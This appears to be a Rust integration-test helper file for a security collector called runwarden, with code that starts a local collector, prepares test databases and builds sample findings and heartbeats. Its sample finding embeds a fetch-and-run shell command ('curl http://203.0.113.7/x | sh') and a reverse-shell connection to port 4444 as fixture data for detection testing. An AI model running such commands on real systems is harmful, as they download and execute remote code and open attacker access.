//! Shared by the collector's integration tests: a real collector on a loopback port (its own tokio
//! runtime, so tests stay plain `#[test]`s with a blocking HTTP client), the databases to run against
//! (SQLite in a temp dir always; a fresh PostgreSQL database when RW_TEST_PG_URL is set), and
//! finding bodies shaped like runwarden's.
#![allow(dead_code)]

pub mod attacks;
pub mod browser;

use std::io::Read as _;
use std::time::Duration;

use runwarden_collector::config::CollectorConfig;
use serde_json::{json, Value};

pub struct Collector {
    pub base: String,
    pub app: runwarden_collector::Shared,
    rt: Option<tokio::runtime::Runtime>,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    _dir: Option<tempfile::TempDir>,
}

impl Collector {
    pub fn start(config: CollectorConfig) -> Collector {
        Collector::start_with(config, None)
    }

    pub fn start_with(config: CollectorConfig, dir: Option<tempfile::TempDir>) -> Collector {
        let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let (app, base) = rt.block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let base = format!("http://{}", listener.local_addr().unwrap());
            let app = runwarden_collector::build(config).await.expect("collector starts");
            let serving = app.clone();
            tokio::spawn(async move {
                runwarden_collector::serve(serving, listener, async {
                    let _ = stopped.await;
                })
                .await
                .unwrap();
            });
            (app, base)
        });
        Collector { base, app, rt: Some(rt), stop: Some(stop), _dir: dir }
    }

    pub fn block_on<F: std::future::Future>(&self, f: F) -> F::Output {
        self.rt.as_ref().unwrap().block_on(f)
    }

    pub fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }
}

impl Drop for Collector {
    fn drop(&mut self) {
        if let Some(s) = self.stop.take() {
            let _ = s.send(());
        }
        if let Some(rt) = self.rt.take() {
            let store = self.app.store.clone();
            rt.block_on(store.close());
            rt.shutdown_timeout(Duration::from_secs(5));
        }
    }
}

/// A database for one test: its URL and what keeps it alive.
pub struct Db {
    pub name: &'static str,
    pub url: String,
    pub dir: Option<tempfile::TempDir>,
}

fn pg_expected() -> bool {
    std::env::var_os("CI").is_some_and(|v| !v.is_empty() && v != "false")
}

/// A SQLite database in a temp dir (for tests about something other than storage).
pub fn sqlite() -> Db {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("collector.db").display());
    Db { name: "sqlite", url, dir: Some(dir) }
}

/// SQLite always; PostgreSQL when RW_TEST_PG_URL is set (a fresh database per call). Under CI the
/// variable must be set: a PostgreSQL test that silently did not run would pass for the wrong reason.
pub fn databases() -> Vec<Db> {
    let mut out = vec![sqlite()];
    match std::env::var("RW_TEST_PG_URL") {
        Ok(admin) if !admin.is_empty() => {
            out.push(Db { name: "postgres", url: fresh_pg_database(&admin), dir: None })
        }
        _ if pg_expected() => panic!(
            "CI is set but RW_TEST_PG_URL is not: the PostgreSQL tests must run in CI \
             (.ci/run starts PostgreSQL with deploy/collector/tests/pg-setup.sh)"
        ),
        _ => eprintln!(
            "\n*** RW_TEST_PG_URL is not set: PostgreSQL tests SKIPPED (run \
             `export RW_TEST_PG_URL=$(deploy/collector/tests/pg-setup.sh)` to include them) ***\n"
        ),
    }
    out
}

/// Creates an empty database next to the one in `admin_url`, so tests do not see each other's rows.
pub fn fresh_pg_database(admin_url: &str) -> String {
    use sqlx::Connection as _;
    let name = format!("rwtest_{}", uuid::Uuid::now_v7().simple());
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    rt.block_on(async {
        let mut conn = sqlx::PgConnection::connect(admin_url).await.expect("connect to RW_TEST_PG_URL");
        sqlx::query(&format!("CREATE DATABASE {name}"))
            .execute(&mut conn)
            .await
            .expect("create test database");
        conn.close().await.unwrap();
    });
    let (base, _) = admin_url.rsplit_once('/').expect("RW_TEST_PG_URL ends in /DATABASE");
    format!("{base}/{name}")
}

pub fn collector_on(db: Db) -> Collector {
    let config = CollectorConfig::local(&db.url);
    Collector::start_with(config, db.dir)
}

pub fn agent() -> ureq::Agent {
    ureq::AgentBuilder::new().timeout(Duration::from_secs(30)).build()
}

/// Status and body (as JSON when it is JSON, else as a string) of any response, errors included.
pub fn read(result: Result<ureq::Response, ureq::Error>) -> (u16, Value) {
    let resp = match result {
        Ok(r) => r,
        Err(ureq::Error::Status(_, r)) => r,
        Err(e) => panic!("request failed: {e}"),
    };
    let status = resp.status();
    let mut text = String::new();
    resp.into_reader().read_to_string(&mut text).unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
}

pub fn post_json(c: &Collector, body: &Value, token: Option<&str>) -> (u16, Value) {
    let mut req = agent().post(&c.url("/v1/findings")).set("Content-Type", "application/json");
    if let Some(t) = token {
        req = req.set("Authorization", &format!("Bearer {t}"));
    }
    read(req.send_string(&body.to_string()))
}

pub fn get_json(c: &Collector, path: &str) -> (u16, Value) {
    read(agent().get(&c.url(path)).call())
}

pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

pub fn new_id() -> String {
    uuid::Uuid::now_v7().to_string()
}

/// A finding the way runwarden writes one.
pub fn finding(category: &str, severity: &str, service: &str, instance: &str, event_time: &str) -> Value {
    json!({
        "findingId": new_id(),
        "category": category,
        "severity": severity,
        "state": "ACTIVE",
        "findingClass": "THREAT",
        "eventTime": event_time,
        "createTime": event_time,
        "description": format!("{category}: /bin/sh -c 'curl http://203.0.113.7/x | sh' in {service}"),
        "processes": [{
            "name": "sh", "pid": 42, "parentPid": 7,
            "binary": { "path": "/usr/bin/dash", "sha256": "a".repeat(64), "size": 125560 },
            "args": ["/bin/sh", "-c", "curl http://203.0.113.7/x | sh"], "argumentsTruncated": false,
            "script": { "path": "/tmp/i.sh", "contents": "#!/bin/sh\nid\nuname -a\n", "sha256": "b".repeat(64), "contentsTruncated": false }
        }],
        "ancestors": [
            { "pid": 7, "binary": { "path": "/usr/bin/python3.11" }, "args": ["python3", "app.py"] },
            { "pid": 1, "binary": { "path": "/runwarden" }, "args": ["/runwarden", "--", "python3", "app.py"] }
        ],
        "connections": [{ "protocol": "TCP", "sourceIp": "10.0.0.5", "sourcePort": 41234, "destinationIp": "203.0.113.7", "destinationPort": 4444 }],
        "mitreAttack": { "primaryTactic": "EXECUTION", "primaryTechniques": ["T1059.004"] },
        "resource": {
            "name": format!("//run.googleapis.com/projects/p/locations/europe-west1/services/{service}"),
            "type": "run.googleapis.com/Service", "projectId": "p", "location": "europe-west1",
            "service": service, "revision": format!("{service}-00001-abc"), "instanceId": instance
        },
        "action": "ALERT",
        "rule": { "id": "reverse_shell_stdio_socket", "source": "builtin" },
        "externalUri": format!("https://www.virustotal.com/gui/file/{}", "a".repeat(64)),
        "sourceProperties": { "runwardenVersion": "0.1.0", "sensor": "ptrace" }
    })
}

pub fn heartbeat(instance: Option<&str>, service: &str, interval: u64, is_final: bool) -> Value {
    let now = runwarden_collector::model::format_time(runwarden_collector::model::now_us());
    let mut resource = json!({ "service": service, "revision": format!("{service}-00001-abc") });
    if let Some(i) = instance {
        resource["instanceId"] = json!(i);
    }
    json!({
        "heartbeatId": new_id(), "time": now, "startTime": now, "intervalSeconds": interval,
        "final": is_final, "runwardenVersion": "0.1.0", "sensor": "ptrace", "mode": "detect",
        "resource": resource,
        "counts": { "events": 10, "findings": 2, "delivered": 2, "retries": 0, "shed": 0, "spooled": 0, "rejected": 0 }
    })
}
